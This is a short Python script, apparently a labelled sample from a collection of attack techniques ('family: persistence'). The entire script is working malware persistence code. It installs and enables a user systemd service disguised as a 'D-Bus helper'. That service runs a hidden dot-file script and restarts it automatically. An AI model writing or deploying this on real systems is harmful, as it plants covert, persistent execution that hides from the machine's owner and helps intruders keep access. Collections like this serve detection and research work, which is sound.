# family: persistence
# a systemd user unit installed and enabled
import os
import subprocess

unit_dir = os.path.expanduser("~/.config/systemd/user")
os.makedirs(unit_dir, exist_ok=True)
with open(os.path.join(unit_dir, "dbus-helper.service"), "w") as f:
    f.write("""[Unit]
Description=D-Bus helper

[Service]
ExecStart=/usr/bin/python3 /home/%u/.local/share/.dbus-helper.py
Restart=always

[Install]
WantedBy=default.target
""")
subprocess.run(["systemctl", "--user", "daemon-reload"])
subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-helper.service"])
